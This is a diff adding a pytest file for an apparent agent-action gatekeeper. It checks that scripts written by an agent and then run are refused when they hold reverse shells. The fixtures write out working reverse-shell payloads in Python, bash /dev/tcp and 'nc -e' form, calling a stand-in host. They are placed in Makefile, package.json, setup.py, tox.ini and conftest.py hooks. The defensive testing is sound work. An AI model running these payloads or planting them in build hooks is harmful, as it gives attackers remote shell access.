@@ -1,0 +1,232 @@
+"""Code written by file.write, then run by shell.exec: the run is decided with what the code does.
+
+Through /v1/invoke (and /v1/decide, MCP) of a real Gatekeeper on the default pack: the write
+records what the file would do under the writer's principal; a command that runs the file
+inherits it, and its refusal names the file and the write's decision id.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import aiohttp
+import pytest
+
+from gatekeeper.approvals.settings import ApprovalSettings
+from gatekeeper.written.records import open_written_store
+from tests.helpers import invoke, make_config, mint, running, throwaway_schema
+
+REVERSE_SHELL_PY = (
+    "import socket, subprocess, os\n"
+    "s = socket.socket(); s.connect(('203.0.113.7', 4444))\n"
+    "os.dup2(s.fileno(), 0); subprocess.call(['/bin/sh', '-i'])\n"
+)
+REVERSE_SHELL_SH = "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
+BENIGN_PY = "import json\nprint(json.dumps({'ok': True}))\n"
+BENIGN_SH = "#!/bin/sh\nset -e\npython3 -m pytest -q\n"
+
+
+async def _write(http: aiohttp.ClientSession, gk: Any, token: str, path: str, content: str) -> str:
+    status, body, _ = await invoke(http, gk, "file.write", {"path": path, "content": content}, token)
+    assert status == 200, body
+    return str(body["decision_id"])
+
+
+async def _run(
+    http: aiohttp.ClientSession, gk: Any, token: str, cmd: str, **kw: Any
+) -> tuple[int, dict[str, Any]]:
+    status, body, _ = await invoke(http, gk, "shell.exec", {"cmd": cmd}, token, **kw)
+    return status, body
+
+
+@pytest.mark.parametrize(
+    ("path", "content", "cmd"),
+    [
+        ("rev.py", REVERSE_SHELL_PY, "python3 rev.py"),
+        ("/workspace/tools/rev.sh", REVERSE_SHELL_SH, "bash tools/rev.sh"),
+        ("rev.sh", REVERSE_SHELL_SH, "chmod +x rev.sh && ./rev.sh"),
+        ("Makefile", "test:\n\tbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n", "make test"),
+        ("conftest.py", REVERSE_SHELL_PY, "pytest -q"),
+        ("tests/test_x.py", REVERSE_SHELL_PY, "python -m pytest tests"),
+        ("package.json", json.dumps({"scripts": {"test": "nc -e /bin/sh 203.0.113.7 4444"}}), "npm test"),
+        ("setup.py", REVERSE_SHELL_PY, "pip install -e ."),
+        ("tox.ini", "[testenv]\ncommands = nc -e /bin/sh 203.0.113.7 4444\n", "tox"),
+    ],
+)
+async def test_written_reverse_shell_then_run_is_refused_naming_the_file(
+    tmp_path: Path, path: str, content: str, cmd: str
+) -> None:
+    async with running(make_config(tmp_path)) as gk, aiohttp.ClientSession() as http:
+        token = mint(gk)
+        write_id = await _write(http, gk, token, path, content)
+        status, body = await _run(http, gk, token, cmd)
+        assert status == 403, body
+        assert body["capability"] == "net.reverse_shell", body
+        shown = path if path.startswith("/") else f"/workspace/{path}"
+        assert shown in body["reason"] and write_id in body["reason"], body["reason"]
+
+
+async def test_benign_written_script_runs_and_a_malicious_rewrite_is_refused(tmp_path: Path) -> None:
+    async with running(make_config(tmp_path)) as gk, aiohttp.ClientSession() as http:
+        token = mint(gk)
+        await _write(http, gk, token, "tool.py", BENIGN_PY)
+        await _write(http, gk, token, "run.sh", BENIGN_SH)
+        for cmd in ("python3 tool.py", "bash run.sh", "./run.sh", "cat tool.py"):
+            status, body = await _run(http, gk, token, cmd)
+            assert status == 200, (cmd, body)
+        second = await _write(http, gk, token, "tool.py", REVERSE_SHELL_PY)
+        status, body = await _run(http, gk, token, "python3 tool.py")
+        assert status == 403 and second in body["reason"], body
+        status, body = await _run(http, gk, token, "cat tool.py && git diff tool.py")  # read, not run
+        assert status == 200, body
+        await _write(http, gk, token, "tool.py", BENIGN_PY)  # the last write is what is inherited
+        status, body = await _run(http, gk, token, "python3 tool.py")
+        assert status == 200, body
+
+
+async def test_a_module_the_script_imports_is_inherited(tmp_path: Path) -> None:
+    async with running(make_config(tmp_path)) as gk, aiohttp.ClientSession() as http:
+        token = mint(gk)
+        write_id = await _write(http, gk, token, "pkg/helper.py", REVERSE_SHELL_PY)
+        await _write(http, gk, token, "pkg/__init__.py", "")
+        await _write(http, gk, token, "main.py", "from pkg import helper\nprint(helper)\n")
+        status, body = await _run(http, gk, token, "python3 main.py")
+        assert status == 403 and "/workspace/pkg/helper.py" in body["reason"] and write_id in body["reason"]
+
+
+async def test_another_principal_neither_taints_nor_clears(tmp_path: Path) -> None:
+    """Per principal: B's malicious write does not make A's runs refused (nor appear in A's
+    refusals); B's benign rewrite does not clear what A wrote."""
+    async with running(make_config(tmp_path)) as gk, aiohttp.ClientSession() as http:
+        alice, bob = mint(gk, subject="alice"), mint(gk, subject="bob")
+        await _write(http, gk, alice, "a.py", BENIGN_PY)
+        bobs = await _write(http, gk, bob, "a.py", REVERSE_SHELL_PY)
+        status, body = await _run(http, gk, alice, "python3 a.py")
+        assert status == 200, body
+        status, body = await _run(http, gk, bob, "python3 a.py")
+        assert status == 403 and bobs in body["reason"], body
+        alices = await _write(http, gk, alice, "b.py", REVERSE_SHELL_PY)
+        await _write(http, gk, bob, "b.py", BENIGN_PY)
+        status, body = await _run(http, gk, alice, "python3 b.py")
+        assert status == 403 and alices in body["reason"] and bobs not in body["reason"], body
+
+
+async def test_escalating_code_is_held_and_the_approval_binds_that_version(tmp_path: Path) -> None:
+    """Code that starts processes is held (as inline code is); re-written, the call is another
+    call: its approval does not carry over."""
+    async with running(make_config(tmp_path)) as gk, aiohttp.ClientSession() as http:
+        token = mint(gk)
+        await _write(http, gk, token, "spawn.py", "import subprocess\nsubprocess.run(['ls'])\n")
+        status, first = await _run(http, gk, token, "python3 spawn.py")
+        assert status == 202, first
+        await _write(http, gk, token, "spawn.py", "import subprocess\nsubprocess.run(['pwd'])\n")
+        status, second = await _run(http, gk, token, "python3 spawn.py")
+        assert status == 202 and second["approval_id"] != first["approval_id"], (first, second)
+
+
+async def test_decide_endpoint_records_and_inherits_too(tmp_path: Path) -> None:
+    async with running(make_config(tmp_path)) as gk, aiohttp.ClientSession() as http:
+        token = mint(gk)
+        args = {"path": "x.sh", "content": REVERSE_SHELL_SH}
+        status, body, _ = await invoke(http, gk, "file.write", args, token, path="/v1/decide")
+        assert status == 200, body
+        status, refused, _ = await invoke(
+            http, gk, "shell.exec", {"cmd": "sh x.sh"}, token, path="/v1/decide"
+        )
+        assert status == 403 and body["decision_id"] in refused["reason"], refused
+
+
+async def test_a_write_whose_record_cannot_be_stored_is_refused(tmp_path: Path) -> None:
+    async with running(make_config(tmp_path)) as gk, aiohttp.ClientSession() as http:
+        token = mint(gk)
+        await gk.written_code.close()  # the store is gone: fail closed
+        status, body, _ = await invoke(http, gk, "file.write", {"path": "a.py", "content": BENIGN_PY}, token)
+        assert status == 503 and body["code"] == "written_code_unavailable", body
+        status, body = await _run(http, gk, token, "python3 a.py")
+        assert status == 503 and body["code"] == "written_code_unavailable", body
+        status, body = await _run(http, gk, token, "ls -la")  # runs no file: not affected
+        assert status == 200, body
+
+
+async def test_records_survive_a_restart_and_are_shared_on_postgres(tmp_path: Path) -> None:
+    """Two Gatekeepers on one PostgreSQL schema (replicas): a write through one is inherited
+    by a run through the other."""
+    async with throwaway_schema("gk_written") as (dsn, schema):
+        approvals = ApprovalSettings(store=dsn, postgres_schema=schema, default_wait_seconds=0.2)
+        one = make_config(tmp_path / "one", approvals=approvals)
+        two = make_config(tmp_path / "two", approvals=approvals)
+        async with running(one) as gk1, running(two) as gk2, aiohttp.ClientSession() as http:
+            token1 = mint(gk1, subject="agent-7")
+            write_id = await _write(http, gk1, token1, "rev.py", REVERSE_SHELL_PY)
+            token2 = mint(gk2, subject="agent-7")
+            status, body = await _run(http, gk2, token2, "python3 rev.py")
+            assert status == 403 and write_id in body["reason"], body
+        store = open_written_store(dsn, tmp_path, schema=schema)
+        await store.open()
+        try:
+            found = await store.find(gk1.config.identity.issuer, "agent-7", ["/workspace/rev.py"], [])
+        finally:
+            await store.close()
+        assert [r.decision_id for r in found] == [write_id]
+
+
+async def test_code_written_by_a_shell_command_line_is_recorded_too(tmp_path: Path) -> None:
+    """``cat > x.py <<'EOF'`` holds the text in the call: it is read as file.write's would be, and
+    a later run inherits it. A write whose text is not in the call (an expansion) records nothing."""
+    async with running(make_config(tmp_path)) as gk, aiohttp.ClientSession() as http:
+        token = mint(gk)
+        writer = f"cat > rev.py <<'EOF'\n{REVERSE_SHELL_PY}EOF"
+        status, body = await _run(http, gk, token, writer)
+        assert status == 200, body
+        status, refused = await _run(http, gk, token, "python3 rev.py")
+        assert status == 403 and body["decision_id"] in refused["reason"], refused
+        # A shell rewrite only adds (its branch may not run): the reverse shell stays recorded.
+        status, body = await _run(http, gk, token, "false && echo 'print(1)' > rev.py")
+        assert status == 200, body
+        status, refused = await _run(http, gk, token, "python3 rev.py")
+        assert status == 403 and refused["capability"] == "net.reverse_shell", refused
+        await _write(http, gk, token, "rev.py", BENIGN_PY)  # file.write replaces it: known content
+        status, body = await _run(http, gk, token, "python3 rev.py")
+        assert status == 200, body
+
+
+@pytest.mark.parametrize("backend", ["sqlite", "postgres"])
+async def test_a_merge_only_adds_and_a_put_replaces(tmp_path: Path, backend: str) -> None:
+    from gatekeeper.models import Capability
+    from gatekeeper.written.records import WrittenRecord
+
+    def rec(decision: str, *caps: str) -> WrittenRecord:
+        return WrittenRecord(
+            "iss",
+            "sub",
+            "/workspace/x.py",
+            "python",
+            decision * 4,
+            tuple(Capability(c) for c in caps),
+            (),
+            decision,
+            1.0,
+        )
+
+    async def check(store: Any) -> None:
+        await store.open()
+        try:
+            await store.put(rec("a", "net.reverse_shell"))
+            await store.merge(rec("b", "fs.read:/workspace/x"))
+            (got,) = await store.find("iss", "sub", ["/workspace/x.py"], [])
+            assert {c.name for c in got.capabilities} == {"net.reverse_shell", "fs.read:/workspace/x"}
+            assert got.decision_id == "b,a"
+            await store.put(rec("c"))
+            (got,) = await store.find("iss", "sub", ["/workspace/x.py"], [])
+            assert got.capabilities == () and got.decision_id == "c"
+            assert await store.find("iss", "other", ["/workspace/x.py"], ["/workspace/"]) == []
+        finally:
+            await store.close()
+
+    if backend == "sqlite":
+        await check(open_written_store("sqlite", tmp_path))
+        return
+    async with throwaway_schema("gk_written") as (dsn, schema):
+        await check(open_written_store(dsn, tmp_path, schema=schema))
